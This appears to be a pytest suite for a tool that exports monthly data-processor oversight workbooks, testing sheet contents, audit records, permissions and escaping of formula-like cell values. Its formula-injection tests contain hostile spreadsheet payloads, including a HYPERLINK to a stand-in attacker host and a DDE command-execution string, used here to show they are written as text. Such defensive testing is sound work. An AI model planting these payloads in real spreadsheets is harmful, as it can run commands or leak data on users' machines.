"""The monthly oversight pack: every sheet, deterministic cells, formula-safe, no data-subject reference, audited.

Workbooks are written to real files and read back with openpyxl; the databases are real DuckDB files."""

from __future__ import annotations

import hashlib
import json
from datetime import date
from pathlib import Path

import duckdb
import openpyxl
import pytest

from exports.errors import InvalidPeriod, OutputNotWritable, UnknownPeriod, UnknownProcessor, UnsupportedFormat
from exports.pack import export_pack, pack_bytes
from exports.sheets_checks import NO_RUN
from exports.xlsx import cell
from findings.raising import raise_from_checks, raise_from_reviews
from findings.service import move, raise_finding, respond
from spotchecks.review import record_review
from spotchecks.samples import draw_sample
from store import audit
from store.db import next_id
from store.errors import PermissionDenied
from store.identity import ROLES, User
from tests.conftest import HEADER_NL, nl_row
from tests.spot_demo import answer_all

BELCALL = "Belcall Antwerpen BV"
APPELIA = "Appelia Services SRL"
OFFICER = User("olivia", ROLES)
AS_OF = date(2026, 11, 28)
SHEETS = ["Summary", "Submission", "Quarantine", "Checks", "Exceptions", "Samples", "Findings", "Clause coverage"]
Grid = dict[str, list[list[object]]]


# --- reading a workbook back -------------------------------------------------------------------------------------

def read(source: Path | bytes) -> openpyxl.Workbook:
    if isinstance(source, bytes):
        import io
        source = io.BytesIO(source)  # type: ignore[assignment]
    return openpyxl.load_workbook(source)


def grid(source: Path | bytes | openpyxl.Workbook) -> Grid:
    """Every sheet's rows of values, trailing empty cells dropped."""
    wb = source if isinstance(source, openpyxl.Workbook) else read(source)
    out: Grid = {}
    for ws in wb:
        rows = []
        for row in ws.iter_rows(values_only=True):
            values = list(row)
            while values and values[-1] is None:
                values.pop()
            rows.append(values)
        out[ws.title] = rows
    return out


def section(sheet: list[list[object]], heading: str) -> list[dict[str, object]]:
    """The rows of a section as dicts keyed by its header row (empty when the section shows its message)."""
    start = next(i for i, r in enumerate(sheet) if r[:1] == [heading])
    header_at = start + 1
    if len(sheet[header_at]) == 1 and len(sheet[header_at + 1]) > 1:  # a note sits between heading and header
        header_at += 1
    header = sheet[header_at]
    found = []
    for row in sheet[header_at + 1:]:
        if not row:
            break
        if len(row) == 1 and len(header) > 1:
            return []  # the empty-section message
        found.append(dict(zip(header, row + [None] * (len(header) - len(row)), strict=True)))
    return found


def message(sheet: list[list[object]], heading: str) -> str:
    """The one-cell message a section shows when it has no rows."""
    start = next(i for i, r in enumerate(sheet) if r[:1] == [heading])
    return str(next(r[0] for r in sheet[start + 2:] if len(r) == 1 and r[0] is not None and
                    (not str(r[0]).startswith(("The newest", "Each case", "Overdue", "Cases are", "Upper", "Rows",
                                               "The rows", "Contract profile", "The clause")))))


def figures(wb: Grid) -> dict[str, object]:
    return {r["figure"]: r["value"] for r in section(wb["Summary"], "Key figures")}


def all_cells(path: Path | bytes) -> list[openpyxl.cell.Cell]:
    return [c for ws in read(path) for row in ws.iter_rows() for c in row]


# --- databases ----------------------------------------------------------------------------------------------------

@pytest.fixture
def demo(checked_demo: duckdb.DuckDBPyConnection) -> duckdb.DuckDBPyConnection:
    """Here the demo is checked: conftest's copy of the demo reports checked once as of each report's last day."""
    return checked_demo


TINY = [HEADER_NL,
        nl_row("BC-1", received="05-10-2026", responded="09-10-2026", outcome="Uitgevoerd"),   # 4 days
        nl_row("BC-2", received="06-10-2026", responded="16-10-2026", outcome="Uitgevoerd"),   # 10 days
        nl_row("BC-3", received="07-10-2026", responded="13-10-2026", outcome="Uitgevoerd"),   # 6 days
        nl_row("BC-4", received="20-10-2026")]                                                  # open


@pytest.fixture
def tiny(con, ingest, write_csv) -> duckdb.DuckDBPyConnection:
    """Belcall's October report of four cases: three answered after 4, 10 and 6 days, one open; no check run."""
    ingest(write_csv("belcall_2026-10.csv", TINY))
    return con


def add_result(con: duckdb.DuckDBPyConnection, check_id: str, severity: str, case_ids: list[str | None],
               tested: int, details: dict[str, object] | None = None, processor: str = BELCALL,
               period: str = "2026-10") -> None:
    """Record a check result and its exceptions directly in the migration-2 tables, as the runner stores them."""
    run_id = next_id(con, "check_run_ids")
    con.execute(
        "INSERT INTO check_runs (run_id, started_at, finished_at, user_name, processor, period, as_of, profiles, "
        "checks_run, "
        "exceptions, errors) VALUES (?, TIMESTAMP '2026-11-06 09:00', TIMESTAMP '2026-11-06 09:00', 'olivia', ?, ?, "
        "DATE '2026-10-31', '{}', 1, ?, 0)", [run_id, processor, period, len(case_ids)])
    con.execute("INSERT INTO check_results VALUES (?, ?, ?, ?, DATE '2026-10-31', 'default', 'abc', ?, 'SCC 8(b)', "
                "?, ?, NULL)", [run_id, check_id, processor, period, severity, tested, len(case_ids)])
    for case_id in case_ids:
        con.execute("INSERT INTO exceptions VALUES (?, ?, ?, ?, ?, ?, 'SCC 8(b)', ?)",
                    [run_id, check_id, severity, processor, period, case_id, json.dumps(details or {})])


def export(con: duckdb.DuckDBPyConnection, tmp_path: Path, processor: str = BELCALL, period: str = "2026-10",
           name: str = "pack.xlsx") -> Grid:
    export_pack(con, OFFICER, processor, period, tmp_path / name, as_of=AS_OF)
    return grid(tmp_path / name)


# --- the pack -----------------------------------------------------------------------------------------------------

def test_the_pack_has_every_sheet_in_order(demo, tmp_path):
    wb = export(demo, tmp_path)
    assert list(wb) == SHEETS
    assert wb["Summary"][0] == [f"Monthly oversight pack — {BELCALL}, 2026-10"]


def test_rerunning_the_pack_gives_the_same_cells_except_the_generated_line(demo, tmp_path):
    first = export(demo, tmp_path, name="a.xlsx")
    second = export(demo, tmp_path, name="b.xlsx")
    generated = [r for r in first["Summary"] if r[:1] == ["Generated"]]
    assert len(generated) == 1 and "UTC by olivia" in str(generated[0][1])
    for wb in (first, second):
        wb["Summary"] = [r for r in wb["Summary"] if r[:1] != ["Generated"]]
    assert first == second
    assert sum(len(rows) for rows in first.values()) > 100  # the comparison covered real content


def test_summary_figures_of_a_tiny_report_without_a_check_run(tiny, tmp_path):
    kpis = figures(export(tiny, tmp_path))
    assert (kpis["Cases in the report"], kpis["Received"], kpis["Answered"], kpis["Open"]) == (4, 4, 3, 1)
    assert kpis["Median days to answer"] == 6  # median of 4, 10 and 6 calendar days
    assert kpis["Answered on time (%)"] == kpis["Non-conformities"] == NO_RUN
    assert kpis["Report"] == "not checked"
    assert (kpis["Findings for this month: open"], kpis["Spot-check samples"]) == (0, 0)


def test_summary_figures_count_the_late_answers_of_the_latest_check_run(tiny, tmp_path):
    add_result(tiny, "deadline.late_response", "major", ["BC-2"], tested=3)
    add_result(tiny, "identity.late_request", "minor", ["BC-1", "BC-3"], tested=4)
    kpis = figures(export(tiny, tmp_path))
    assert kpis["Answered late"] == 1
    assert kpis["Answered on time (%)"] == 66.7  # 2 of 3 answered cases on time
    assert kpis["Non-conformities"] == 1  # minor exceptions are not non-conformities


def test_each_sheet_says_what_is_missing_before_any_check_run_sample_or_finding(tiny, tmp_path):
    wb = export(tiny, tmp_path)
    assert message(wb["Checks"], "Latest result of each check") == NO_RUN
    assert message(wb["Exceptions"], "Offending cases") == NO_RUN
    assert message(wb["Samples"], "Samples") == "No sample was drawn from this month's cases."
    assert message(wb["Findings"], "Findings for this month") == "No finding was raised for this month."
    assert message(wb["Quarantine"], "Quarantined rows") == "Every row of the current report was loaded or skipped."
    coverage = section(wb["Clause coverage"], "Clauses of the contract")
    assert coverage and {r["status"] for r in coverage} == {"not evidenced", "not tested"}
    assert not [r for r in coverage if r["tested_by"]]


def test_checks_and_exceptions_sheets_show_the_latest_run_of_the_month(demo, tmp_path):
    wb = export(demo, tmp_path)
    checks = section(wb["Checks"], "Latest result of each check")
    late = next(r for r in checks if r["check_id"] == "deadline.late_response")
    assert late["title"] == "Answered after the deadline" and late["result"] == "offending"
    assert late["cases_tested"] > late["cases_offending"] >= 1
    exceptions = section(wb["Exceptions"], "Offending cases")
    assert len([e for e in exceptions if e["check_id"] == "deadline.late_response"]) == late["cases_offending"]
    assert {e["case_id"] for e in exceptions if e["check_id"] == "report.rows_quarantined"} == {None}
    assert json.loads(str(exceptions[0]["details"]))  # the offending values, as JSON text
    runs = section(wb["Checks"], "Check runs")
    assert [r["run_id"] for r in runs] == [late["run_id"]] and runs[0]["user_name"] == "olivia"


def test_submission_and_quarantine_sheets_hold_the_files_hashes_and_counts(demo, tmp_path):
    wb = export(demo, tmp_path, period="2026-09")
    files = section(wb["Submission"], "Files")
    assert [f["status"] for f in files] == ["superseded", "current"]
    current = files[1]
    [sha] = demo.execute("SELECT sha256 FROM submissions WHERE file_name = 'belcall_2026-09_v2.csv'").fetchall()[0]
    assert current["file_name"] == "belcall_2026-09_v2.csv" and current["sha256"] == sha
    assert current["rows_read"] == current["rows_loaded"] + current["rows_quarantined"] + current["rows_skipped"]
    quarantined = section(wb["Quarantine"], "Quarantined rows")
    assert len(quarantined) == current["rows_quarantined"] == 3
    assert "bad_date" in {q["reasons"] for q in quarantined}


def test_a_month_whose_report_is_missing_can_be_exported_and_says_so(demo, tmp_path):
    # Appelia sent no September report: the October check run flags report.missing (docs/checks.md), naming the month.
    wb = export(demo, tmp_path, processor=APPELIA, period="2026-09")
    assert figures(wb)["Report"] == "missing"
    assert figures(wb)["Non-conformities"] == "no report for this month"
    assert message(wb["Submission"], "Files").startswith("No report was received for this month")
    exceptions = section(export(demo, tmp_path, processor=APPELIA, period="2026-10", name="oct.xlsx")["Exceptions"],
                         "Offending cases")
    [missing] = [e for e in exceptions if e["check_id"] == "report.missing"]
    assert json.loads(str(missing["details"]))["missing_period"] == "2026-09"


def test_a_month_known_only_from_its_check_results_can_be_exported(demo, tmp_path):
    add_result(demo, "report.late", "major", [None], tested=1, processor=APPELIA, period="2026-06")
    wb = export(demo, tmp_path, processor=APPELIA, period="2026-06")
    assert message(wb["Submission"], "Files").startswith("No report was received for this month")
    assert [e["check_id"] for e in section(wb["Exceptions"], "Offending cases")] == ["report.late"]
    assert figures(wb)["Cases in the report"] == 0


# --- formula injection and data-subject references ---------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x","click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_like_a_formula_is_written_as_text(value):
    assert cell(value) == "'" + value


def test_planted_formulas_in_case_ids_agent_ids_and_names_come_out_as_text(con, officer, key_path, write_csv,
                                                                           tmp_path):
    from ingest.service import ingest_report

    hyperlink, dde, at_sum = HOSTILE[0], HOSTILE[1], HOSTILE[2]
    header = HEADER_NL
    rows = [header,
            # a case id and an agent id that a spreadsheet would run; quotes doubled as CSV writes them
            '"{}";05-10-2026;Inzage;Telefoon;KL-1;ja;;;;"{}"'.format(hyperlink.replace('"', '""'), at_sum),
            f"{dde};06-10-2026;Adres;Telefoon;KL-2;ja;;;;AG-07"]  # an unknown request type: quarantined
    report = write_csv("hostile_2026-10.csv", rows)
    ingest_report(con, report, user=officer, key_path=key_path, processor="=1+1 BV", period="2026-10",
                  submitted_on=date(2026, 11, 5))
    add_result(con, "deadline.overdue_open", "major", [hyperlink], tested=1, processor="=1+1 BV",
               details={"agent_id": at_sum})
    sample = draw_sample(con, officer, processor="=1+1 BV", period="2026-10", size=1, seed=1)
    record_review(con, officer, sample.sample_id, hyperlink, "recognised", "no", dde)
    finding = raise_finding(con, officer, processor="=1+1 BV", period="2026-10", clause="SCC 8(b)", title=hyperlink,
                            severity="high", description=dde, case_ids=[hyperlink])
    respond(con, officer, finding, "disputed", at_sum)
    out = tmp_path / "pack.xlsx"
    export_pack(con, officer, "=1+1 BV", "2026-10", out, as_of=AS_OF)
    cells = all_cells(out)
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert {"'" + hyperlink, "'" + dde, "'=1+1 BV"} <= values
    wb = grid(out)
    [exception] = section(wb["Exceptions"], "Offending cases")
    assert exception["case_id"] == "'" + hyperlink
    assert json.loads(str(exception["details"])) == {"agent_id": at_sum}  # inside JSON text: inert
    [quarantined] = section(wb["Quarantine"], "Quarantined rows")
    assert quarantined["case_id"] == "'" + dde
    [sampled] = section(wb["Samples"], "Sampled cases")
    assert (sampled["case_id"], sampled["agent_id"]) == ("'" + hyperlink, "'" + at_sum)
    [answer] = section(wb["Samples"], "Review answers")
    assert answer["comment"] == "'" + dde
    [raised] = section(wb["Findings"], "Findings for this month")
    assert (raised["title"], raised["description"], raised["response_text"], raised["case_ids"]) == \
        ("'" + hyperlink, "'" + dde, "'" + at_sum, "'" + hyperlink)


def test_no_data_subject_reference_reaches_the_pack(demo, tmp_path):
    refs = {r[0] for r in demo.execute("SELECT DISTINCT data_subject_ref FROM cases WHERE data_subject_ref IS NOT "
                                       "NULL").fetchall()}
    planted = next(iter(refs))
    add_result(demo, "repeat.same_request", "minor", ["BC-261001-01"], tested=10,
               details={"data_subject_ref": planted, "earlier": [{"data_subject_ref": planted, "case": "BC-1"}]})
    out = tmp_path / "pack.xlsx"
    export_pack(demo, OFFICER, BELCALL, "2026-10", out, as_of=AS_OF)
    text = "\n".join(str(c.value) for c in all_cells(out) if c.value is not None)
    assert len(refs) > 100
    assert not [ref for ref in refs if ref in text]
    assert "data_subject" not in text
    exceptions = section(grid(out)["Exceptions"], "Offending cases")
    planted_row = next(e for e in exceptions if e["check_id"] == "repeat.same_request" and
                       e["case_id"] == "BC-261001-01" and "earlier" in str(e["details"]))
    assert json.loads(str(planted_row["details"])) == {"earlier": [{"case": "BC-1"}]}


# --- the export itself ---------------------------------------------------------------------------------------------

def test_the_export_is_recorded_with_the_sha256_of_the_file_written(demo, tmp_path):
    out = tmp_path / "pack-2026-10.xlsx"
    produced = export_pack(demo, OFFICER, BELCALL, "2026-10", out, as_of=AS_OF)
    digest = hashlib.sha256(out.read_bytes()).hexdigest()
    [event] = audit.list_events(demo, action="export.pack")
    assert event["seq"] == produced.event_seq and event["object"] == f"processor:{BELCALL}"
    assert event["details"] == {"file": "pack-2026-10.xlsx", "sha256": digest, "bytes": out.stat().st_size,
                                "processor": BELCALL, "period": "2026-10"}
    assert produced.sha256 == digest
    assert audit.verify_chain(demo).intact


def test_pack_bytes_gives_the_workbook_and_records_its_suggested_name(demo):
    data = pack_bytes(demo, OFFICER, BELCALL, "2026-10", as_of=AS_OF)
    assert list(grid(data)) == SHEETS
    [event] = audit.list_events(demo, action="export.pack")
    assert event["details"]["file"] == "oversight-pack_Belcall-Antwerpen-BV_2026-10.xlsx"
    assert event["details"]["sha256"] == hashlib.sha256(data).hexdigest()


@pytest.mark.parametrize(("processor", "period", "error", "text"), [
    ("Belcall", "2026-10", UnknownProcessor, "There is no processor named 'Belcall'. Known processors: "
                                             "Appelia Services SRL, Belcall Antwerpen BV."),
    (BELCALL, "2026-05", UnknownPeriod, "Nothing is known about Belcall Antwerpen BV for 2026-05"),
    (BELCALL, "oktober", InvalidPeriod, "write it like 2026-10"),
])
def test_an_unknown_processor_or_month_is_refused_and_nothing_is_recorded(demo, tmp_path, processor, period, error,
                                                                          text):
    before = audit.count_events(demo)
    with pytest.raises(error, match=text.replace("(", r"\(").replace(")", r"\)").replace(".", r"\.")):
        export_pack(demo, OFFICER, processor, period, tmp_path / "p.xlsx")
    assert audit.count_events(demo) == before
    assert not (tmp_path / "p.xlsx").exists()


def test_a_path_that_cannot_be_written_records_nothing(demo, tmp_path):
    before = audit.count_events(demo)
    with pytest.raises(OutputNotWritable, match="nothing was recorded"):
        export_pack(demo, OFFICER, BELCALL, "2026-10", tmp_path / "no such folder" / "p.xlsx")
    with pytest.raises(UnsupportedFormat, match=r"ending in \.xlsx"):
        export_pack(demo, OFFICER, BELCALL, "2026-10", tmp_path / "p.pdf")
    assert audit.count_events(demo) == before


def test_a_viewer_may_not_export_the_pack_an_auditor_may(demo, tmp_path):
    with pytest.raises(PermissionDenied, match="may not export the oversight pack"):
        export_pack(demo, User("vic", ("viewer",)), BELCALL, "2026-10", tmp_path / "p.xlsx")
    export_pack(demo, User("aud", ("auditor",)), BELCALL, "2026-10", tmp_path / "p.xlsx")
    assert audit.list_events(demo, action="export.pack")[0]["role"] == "auditor"


# --- the sheets fed by the spot checks and the findings log ---------------------------------------------------------

@pytest.fixture
def month_of_work(demo: duckdb.DuckDBPyConnection) -> dict[str, object]:
    """Belcall October: a sample of 5 drawn with seed 12345, one case reviewed with one "no", findings raised from
    the checks and the review, the first one notified and disputed."""
    sample = draw_sample(demo, OFFICER, processor=BELCALL, period="2026-10", size=5, seed=12345)
    reviewed = sample.random_part[0].case_id
    answers = answer_all(demo, OFFICER, sample.sample_id, reviewed, substance=("no", "standard template only"))
    raised = sorted(r.finding_id for r in raise_from_checks(demo, OFFICER, BELCALL, "2026-10",
                                                            today=date(2026, 11, 6)))
    [from_review] = raise_from_reviews(demo, OFFICER, sample.sample_id, today=date(2026, 11, 6))
    move(demo, OFFICER, raised[0], "notified")
    respond(demo, OFFICER, raised[0], "disputed", "Answered by phone within the month.")
    return {"sample": sample, "reviewed": reviewed, "raised": raised, "from_review": from_review.finding_id,
            "answered": len(answers)}


def test_the_samples_sheet_shows_seed_fingerprint_cases_reviews_and_evaluation(demo, month_of_work, tmp_path):
    sample = month_of_work["sample"]
    wb = export(demo, tmp_path)["Samples"]
    [row] = section(wb, "Samples")
    assert (row["sample_id"], row["seed"], row["method"]) == (sample.sample_id, "12345", "random")
    assert (row["population_size"], row["fingerprint"]) == (sample.population.size, sample.population.fingerprint)
    assert row["random_items"] == 5 and row["drawn_by"] == "olivia"
    items = section(wb, "Sampled cases")
    assert [i["case_id"] for i in items] == [p.case_id for p in sample.random_part]
    assert (items[0]["answers"], items[0]["deviations"]) == (month_of_work["answered"], 1)
    assert items[0]["request_type"] and items[0]["agent_id"]  # the case's facts from the sampled report
    answers = section(wb, "Review answers")
    assert len(answers) == month_of_work["answered"] and {a["case_id"] for a in answers} == {month_of_work["reviewed"]}
    assert next(a for a in answers if a["item_id"] == "substance")["comment"] == "standard template only"
    [conclusion] = section(wb, "Evaluation")
    assert (conclusion["verdict"], conclusion["cases_reviewed"]) == ("not_relied_on", 1)
    per_item = {r["item"]: r for r in section(wb, "Evaluation per rubric item")}
    substance, timely = per_item["substance"], per_item["timely"]
    assert (substance["reviewed"], substance["deviations"]) == (1, 1)
    assert substance["deviation_case_ids"] == month_of_work["reviewed"]
    # One-sided Clopper-Pearson with 0 deviations in 1 case: 1 - 0.05^(1/1) = 0.95, projected onto the item's
    # cases (docs/sampling.md §4); the item then needs more cases.
    assert (timely["reviewed"], timely["deviations"], timely["conclusion"]) == (1, 0, "insufficient")
    assert timely["upper_limit"] == pytest.approx(0.95, abs=1e-6)


def test_the_findings_sheet_shows_the_months_findings_with_their_history(demo, month_of_work, tmp_path):
    wb = export(demo, tmp_path)["Findings"]
    findings = section(wb, "Findings for this month")
    expected = sorted([*month_of_work["raised"], month_of_work["from_review"]])
    assert [f["finding_id"] for f in findings] == expected
    first = findings[0]
    assert (first["status"], first["response"], first["source"]) == \
        ("notified", "disputed", "check:deadline.late_response")
    history = [h for h in section(wb, "History of these findings") if h["finding_id"] == first["finding_id"]]
    assert [(h["action"], h["from_status"], h["to_status"]) for h in history] == \
        [("raised", None, "open"), ("notified", "open", "notified"), ("responded", "notified", "notified")]
    assert figures(export(demo, tmp_path, name="again.xlsx"))["Findings for this month: open"] == len(expected)


def test_clause_coverage_says_which_clauses_the_checks_and_reviews_tested(demo, month_of_work, tmp_path):
    wb = export(demo, tmp_path)["Clause coverage"]
    coverage = {r["clause"]: r for r in section(wb, "Clauses of the contract")}
    timeliness = coverage["SCC 8(b)"]
    assert "deadline.late_response" in str(timeliness["checks"]).split(", ")
    assert {"timely", "substance"} <= set(str(timeliness["rubric_items"]).split(", "))
    assert {"deadline.late_response", "substance"} <= set(str(timeliness["tested_by"]).split(", "))
    assert timeliness["status"] == "exceptions"
    assert set(month_of_work["raised"][:1]) <= set(str(timeliness["open_findings"]).split(", "))
    assert "offending case(s)" in str(timeliness["result"]) and "1 'no' in" in str(timeliness["result"])
    assert coverage["SCC 1"]["status"] == "not evidenced"
    evidence = [e for e in section(wb, "Evidence per clause") if e["clause"] == "SCC 8(b)"]
    substance = next(e for e in evidence if e["id"] == "substance")
    assert (substance["kind"], substance["tested"], substance["offending"]) == ("rubric", 1, 1)  # one case reviewed
